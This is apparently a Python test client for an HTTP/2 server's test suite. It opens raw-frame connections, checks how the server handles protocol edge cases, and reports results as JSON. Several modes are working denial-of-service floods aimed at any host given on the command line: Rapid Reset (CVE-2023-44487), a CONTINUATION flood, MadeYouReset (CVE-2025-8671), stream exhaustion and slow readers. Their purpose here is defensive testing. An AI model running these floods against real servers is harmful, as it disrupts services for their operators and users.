#!/usr/bin/env python3
"""HTTP/2 clients for the tests in h2.rs: abusive ones (floods) and a few well-behaved
ones that need control no stock client gives (two streams on one connection, a GOAWAY
seen while a stream is in flight).

Frames are written with hyperframe and hpack (both come with the `h2` package), not
with h2's state machine, which would refuse to send what the floods send. Every mode is
bounded: a number of frames and a deadline (SECONDS). The result is one JSON object on
the last line of stdout.

Usage: h2flood.py MODE HOST PORT SECONDS [PATH]
Modes:
  rapid-reset     HEADERS + RST_STREAM(CANCEL) on new streams, in a loop (CVE-2023-44487)
  continuation    HEADERS without END_HEADERS, then CONTINUATION frames without end
  window-zero     HEADERS + WINDOW_UPDATE of 0 on the stream (the server must reset it)
  data-after-end  HEADERS with END_STREAM + DATA on the same stream
  bad-headers     HEADERS with a connection-specific field (`connection`), which the
                  server must answer with RST_STREAM: "MadeYouReset" (CVE-2025-8671)
  streams         many streams opened and left open (above max_concurrent_streams)
  two-streams     two GETs of PATH; prints "ready" once both have their response head,
                  then waits for a line on stdin and reads on: one reset, one going on
  in-flight       one GET of PATH; prints "sent", then reads until the stream ends,
                  noting a GOAWAY before the end
  idle            one GET of PATH, then waits for the server's GOAWAY and close
  sequential      a GET of PATH; prints "first STATUS", waits for a line on stdin, then
                  a second GET of PATH on the same connection
  zero-window     SETTINGS_INITIAL_WINDOW_SIZE=0, one GET of PATH; prints "ready" once
                  its response head is in, then reads (answering PINGs, never opening
                  the window) until the stream is reset or the connection closed
  slow-readers    the largest windows (stream and connection), 100 GETs of PATH, then
                  nothing read for SECONDS: the server buffers what it may per stream
  connect         a CONNECT request (`:method` and `:authority` only, RFC 9113 §8.5)
"""

import json
import select
import socket
import sys
import time

try:
    import hpack
    from hyperframe import frame as hf
except ImportError as e:  # a missing prerequisite fails the test (see h2.rs)
    print(json.dumps({"error": f"python module missing: {e} (pip install h2)"}))
    sys.exit(3)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Conn:
    def __init__(self, host, port, settings=None):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.buf = b""
        self.closed = False
        # A write failed (the server closed): what it sent before is still read.
        self.write_failed = False
        self.grant = True  # DATA is answered with WINDOW_UPDATEs
        self.goaway = None  # error code of the first GOAWAY
        self.resets = {}  # stream id -> error code
        self.heads = {}  # stream id -> status
        self.data = {}  # stream id -> bytes received
        self.ended = set()  # streams the server ended (END_STREAM)
        self.events = []  # (time, what, stream) in arrival order
        self.sock.sendall(PREFACE + hf.SettingsFrame(0, settings or {}).serialize())

    def send(self, *frames):
        if self.closed or self.write_failed:
            return False
        try:
            self.sock.sendall(b"".join(f.serialize() for f in frames))
            return True
        except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
            self.write_failed = True
            return False

    def headers(self, sid, path, end_stream=True, end_headers=True, extra=()):
        block = self.enc.encode(
            [(":method", "GET"), (":scheme", "http"), (":path", path),
             (":authority", "h2.test")] + list(extra))
        f = hf.HeadersFrame(sid, block)
        if end_headers:
            f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        return f

    def pump(self, wait=0.0):
        """Reads what the server sent within `wait` seconds (at least one poll)."""
        deadline = time.monotonic() + wait
        while not self.closed:
            left = max(0.0, deadline - time.monotonic())
            r, _, _ = select.select([self.sock], [], [], left)
            if not r:
                return
            try:
                got = self.sock.recv(1 << 16)
            except (ConnectionResetError, OSError):
                got = b""
            if not got:
                self.closed = True
                self.events.append((time.monotonic(), "closed", 0))
                return
            self.buf += got
            self.parse()
            if time.monotonic() >= deadline:
                return

    def parse(self):
        while len(self.buf) >= 9:
            f, length = hf.Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            f.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            self.on_frame(f)

    def on_frame(self, f):
        now = time.monotonic()
        if isinstance(f, hf.SettingsFrame) and "ACK" not in f.flags:
            self.send(hf.SettingsFrame(0, flags=["ACK"]))
        elif isinstance(f, hf.PingFrame) and "ACK" not in f.flags:
            self.send(hf.PingFrame(0, f.opaque_data, flags=["ACK"]))
        elif isinstance(f, hf.GoAwayFrame):
            if self.goaway is None:
                self.goaway = f.error_code
            self.events.append((now, "goaway", f.last_stream_id))
        elif isinstance(f, hf.RstStreamFrame):
            self.resets[f.stream_id] = f.error_code
            self.events.append((now, "reset", f.stream_id))
        elif isinstance(f, hf.HeadersFrame):
            # tidegate's header blocks are small: one frame each (END_HEADERS).
            try:
                fields = dict(self.dec.decode(f.data, raw=False))
            except Exception as e:  # a broken block is the server's bug: reported
                fields = {":status": f"undecodable: {e}"}
            self.heads[f.stream_id] = fields.get(":status")
            self.events.append((now, "head", f.stream_id))
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)
        elif isinstance(f, hf.DataFrame):
            self.data[f.stream_id] = self.data.get(f.stream_id, 0) + len(f.data)
            self.events.append((now, "data", f.stream_id))
            if f.flow_controlled_length and self.grant:
                self.send(hf.WindowUpdateFrame(0, f.flow_controlled_length),
                          hf.WindowUpdateFrame(f.stream_id, f.flow_controlled_length))
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)
                self.events.append((now, "end", f.stream_id))

    def result(self, **extra):
        out = {
            "closed": self.closed or self.write_failed,
            "goaway": self.goaway,
            "resets": len(self.resets),
            "refused": sum(1 for c in self.resets.values() if c == 7),
            "responses": len(self.heads),
            "ended": len(self.ended),
        }
        out.update(extra)
        return out


def flood(c, seconds, make, batch, limit):
    """Sends `make(sid)` frames for new streams in batches until the server closes or
    GOAWAYs, `limit` streams, or `seconds`."""
    deadline = time.monotonic() + seconds
    sid, sent = 1, 0
    c.pump(0.5)  # the server's SETTINGS (and our ACK of them)
    while (sent < limit and time.monotonic() < deadline and not c.closed
           and not c.write_failed and c.goaway is None):
        frames = []
        for _ in range(batch):
            frames.extend(make(sid))
            sid += 2
            sent += 1
        c.send(*frames)
        c.pump(0.0)
    c.pump(1.0)
    return sent


def main():
    mode, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    path = sys.argv[5] if len(sys.argv) > 5 else "/x"
    zero = ({hf.SettingsFrame.INITIAL_WINDOW_SIZE: 0} if mode == "zero-window"
            else {hf.SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1} if mode == "slow-readers"
            else None)
    c = Conn(host, port, zero)
    started = time.monotonic()
    if mode == "rapid-reset":
        sent = flood(c, seconds, lambda s: [c.headers(s, path), hf.RstStreamFrame(s, 8)], 100, 200_000)
        res = c.result(streams=sent)
    elif mode == "window-zero":
        sent = flood(c, seconds, lambda s: [c.headers(s, path), hf.WindowUpdateFrame(s, 0)], 50, 100_000)
        res = c.result(streams=sent)
    elif mode == "data-after-end":
        sent = flood(c, seconds, lambda s: [c.headers(s, path), hf.DataFrame(s, b"x")], 50, 100_000)
        res = c.result(streams=sent)
    elif mode == "bad-headers":
        sent = flood(c, seconds, lambda s: [c.headers(s, path, extra=[("connection", "x")])], 50, 100_000)
        res = c.result(streams=sent)
    elif mode == "streams":
        # Left open: no END_STREAM, the request bodies never come.
        sent = flood(c, seconds, lambda s: [c.headers(s, path, end_stream=False)], 50, 2_000)
        res = c.result(streams=sent)
    elif mode == "continuation":
        c.pump(0.5)
        c.send(c.headers(1, path, end_stream=True, end_headers=False))
        # Header bytes without end: complete literal fields (not indexed, new name),
        # about 16 KiB a frame.
        field = b"\x00" + bytes([7]) + b"x-flood" + bytes([100]) + b"a" * 100
        chunk = field * (16384 // len(field))
        frames, deadline = 0, started + seconds
        while (frames < 20_000 and time.monotonic() < deadline and not c.closed
               and not c.write_failed and c.goaway is None):
            c.send(*[hf.ContinuationFrame(1, chunk) for _ in range(16)])
            frames += 16
            c.pump(0.0)
        c.pump(1.0)
        res = c.result(frames=frames)
    elif mode == "two-streams":
        c.pump(0.3)
        c.send(c.headers(1, path), c.headers(3, path))
        deadline = started + seconds
        while len(c.heads) < 2 and time.monotonic() < deadline and not c.closed:
            c.pump(0.1)
        print("ready", flush=True)
        sys.stdin.readline()
        told = time.monotonic()
        # Until one stream is reset and the other has had data since.
        while time.monotonic() < deadline and not c.closed:
            c.pump(0.1)
            reset = [s for s in (1, 3) if s in c.resets]
            if reset:
                other = 4 - reset[0]
                at = next(t for t, w, s in c.events if w == "reset" and s == reset[0])
                if any(w == "data" and s == other and t > at for t, w, s in c.events):
                    break
        res = c.result(reset_streams=sorted(c.resets),
                       after_reset_data=[s for t, w, s in c.events
                                         if w == "data" and c.resets and t > told],
                       data=c.data)
    elif mode == "in-flight":
        c.pump(0.3)
        c.send(c.headers(1, path))
        print("sent", flush=True)
        deadline = started + seconds
        while 1 not in c.ended and time.monotonic() < deadline and not c.closed:
            c.pump(0.1)
        goaway_at = next((t for t, w, _ in c.events if w == "goaway"), None)
        end_at = next((t for t, w, s in c.events if w == "end" and s == 1), None)
        c.pump(1.0)
        res = c.result(goaway_before_end=goaway_at is not None and end_at is not None and goaway_at < end_at,
                       status=c.heads.get(1), body=c.data.get(1, 0))
    elif mode == "sequential":
        c.pump(0.3)
        deadline = started + seconds
        c.send(c.headers(1, path))
        while 1 not in c.ended and time.monotonic() < deadline and not c.closed:
            c.pump(0.1)
        print(f"first {c.heads.get(1)}", flush=True)
        sys.stdin.readline()
        c.send(c.headers(3, path))
        while 3 not in c.ended and time.monotonic() < deadline and not c.closed:
            c.pump(0.1)
        res = c.result(first=c.heads.get(1), second=c.heads.get(3))
    elif mode == "zero-window":
        c.pump(0.3)
        c.send(c.headers(1, path))
        deadline = started + seconds
        while 1 not in c.heads and 1 not in c.resets and time.monotonic() < deadline and not c.closed:
            c.pump(0.1)
        print("ready", flush=True)
        told = time.monotonic()
        while 1 not in c.resets and time.monotonic() < deadline and not c.closed:
            c.pump(0.1)
        res = c.result(status=c.heads.get(1), reset=c.resets.get(1),
                       after=round(time.monotonic() - told, 3), body=c.data.get(1, 0))
    elif mode == "slow-readers":
        c.grant = False
        c.pump(0.3)
        c.send(hf.WindowUpdateFrame(0, 2**31 - 1 - 65535),
               *[c.headers(sid, path) for sid in range(1, 201, 2)])
        time.sleep(seconds)
        c.pump(0.5)
        res = c.result(streams=100)
    elif mode == "connect":
        c.pump(0.3)
        block = c.enc.encode([(":method", "CONNECT"), (":authority", "h2.test:443")])
        c.send(hf.HeadersFrame(1, block, flags=["END_HEADERS"]))
        deadline = started + seconds
        while 1 not in c.heads and 1 not in c.resets and time.monotonic() < deadline and not c.closed:
            c.pump(0.1)
        res = c.result(status=c.heads.get(1), reset=c.resets.get(1))
    elif mode == "idle":
        c.pump(0.3)
        c.send(c.headers(1, path))
        deadline = started + seconds
        while 1 not in c.ended and time.monotonic() < deadline and not c.closed:
            c.pump(0.1)
        done = time.monotonic()
        while time.monotonic() < deadline and not c.closed:
            c.pump(0.1)
        goaway_at = next((t for t, w, _ in c.events if w == "goaway"), None)
        res = c.result(goaway_after=None if goaway_at is None else goaway_at - done,
                       closed_after=time.monotonic() - done if c.closed else None)
    else:
        print(json.dumps({"error": f"unknown mode {mode}"}))
        sys.exit(2)
    res["mode"] = mode
    res["seconds"] = round(time.monotonic() - started, 3)
    print(json.dumps(res), flush=True)


if __name__ == "__main__":
    main()
